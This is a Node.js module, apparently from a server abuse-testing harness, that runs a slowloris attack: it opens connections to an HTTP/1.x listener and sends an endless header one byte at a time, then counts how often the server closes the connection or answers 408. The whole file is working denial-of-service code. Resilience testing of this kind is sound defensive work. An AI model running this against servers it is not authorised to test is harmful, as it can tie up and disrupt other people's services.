'use strict';
// Abuse: slowloris. A request's header section sent one byte every few seconds and never
// finished, to hold a connection (and its parser) open on an HTTP/1.x listener for as long as
// the server tolerates; the server's headers timeout should end it with a 408.
const net = require('node:net');
const { once } = require('node:events');
const { setTimeout: sleep } = require('node:timers/promises');
const { untilPhaseEnds } = require('./abuse-run');

/**
 * @param {object} o
 * @param {string} o.url        http://host:port of an HTTP/1.x listener
 * @param {string} o.path       the request target it never finishes asking for
 * @param {number} o.byteEveryMs
 * @param {number} o.until      Date.now() time to stop
 * @param {AbortSignal} o.signal
 * @param {object} o.stats      {connections, closedByServer, answered408, secondsHeld, errors}
 */
function runSlowloris(o) {
  const { hostname, port, host } = new URL(o.url);
  const connectOnce = async () => {
    const socket = net.connect({ host: hostname, port: Number(port) });
    socket.on('error', () => {});
    await once(socket, 'connect');
    o.stats.connections += 1;
    const opened = Date.now();
    let answer = '';
    let closed = false;
    socket.on('data', (d) => {
      answer = (answer + d.toString('latin1')).slice(0, 200);
    });
    socket.once('close', () => {
      closed = true;
    });
    socket.write(`GET ${o.path} HTTP/1.1\r\nHost: ${host}\r\n`);
    // An endless header, a byte at a time; its line is never ended.
    const dribble = 'X-Slowloris: ';
    for (let i = 0; !closed && !o.signal.aborted && Date.now() < o.until; i += 1) {
      socket.write(dribble[i % dribble.length] || 'a');
      await sleep(o.byteEveryMs, undefined, { signal: o.signal }).catch(() => {});
    }
    if (!closed) {
      socket.destroy();
      return;
    }
    o.stats.closedByServer += 1;
    o.stats.secondsHeld += (Date.now() - opened) / 1000;
    if (/^HTTP\/1\.[01] 408/.test(answer)) o.stats.answered408 += 1;
  };
  return untilPhaseEnds({ until: o.until, signal: o.signal, connectOnce, stats: o.stats });
}

module.exports = { runSlowloris };
